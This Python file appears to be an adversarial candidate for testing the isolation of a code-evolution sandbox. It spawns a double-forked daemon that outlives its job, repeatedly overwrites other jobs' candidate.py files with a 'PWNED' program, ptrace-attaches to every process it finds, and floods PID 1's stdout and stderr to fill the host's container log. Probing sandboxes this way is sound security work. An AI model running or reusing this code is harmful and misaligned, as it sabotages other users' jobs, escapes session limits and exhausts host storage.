"""Tries to take over the sandbox for later candidates: ptrace, a daemon that outlives the job, the container log.

The daemon (double-forked, its own session) keeps overwriting every candidate.py
it can reach with a program answering "PWNED", and tries to ptrace-attach to
every process it sees, for 30 s, so that the next job in the same sandbox would
run the hostile code instead of its own. It also writes to PID 1's stdout and
stderr (the container's log on the host's disk).
"""
import ctypes
import glob
import os
import time

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
PWNED = "def main(**_):\n    return {'answer': 'PWNED'}\n"
PLACES = ("/scratch/job/candidate.py", "/scratch/*/candidate.py", "/tmp/evolve-jobs/*/candidate.py",
          "/tmp/evolve-jobs/*/*/candidate.py")


def attach_everything(libc) -> int:
    attached = 0
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            if libc.ptrace(PTRACE_ATTACH, int(name), None, None) == 0:
                attached += 1
                libc.ptrace(PTRACE_DETACH, int(name), None, None)
    return attached


def haunt(marker: str, libc) -> None:
    libc.prctl(15, marker.encode(), 0, 0, 0)
    end = time.monotonic() + 30
    while time.monotonic() < end:
        for pattern in PLACES:
            for path in glob.glob(pattern):
                try:
                    with open(path, "w") as handle:
                        handle.write(PWNED)
                except OSError:
                    pass
        attach_everything(libc)
        time.sleep(0.002)


def main(marker, **_):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(15, marker.encode(), 0, 0, 0)
    logged = 0
    for path in ("/proc/1/fd/1", "/proc/1/fd/2"):
        try:
            with open(path, "w") as handle:
                for _ in range(64):
                    handle.write("x" * 65536)
                    logged += 65536
        except OSError:
            pass
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                haunt(marker, libc)
            finally:
                os._exit(0)
        os._exit(0)
    return {"answer": "PWNED", "attached": attach_everything(libc), "logged": logged}
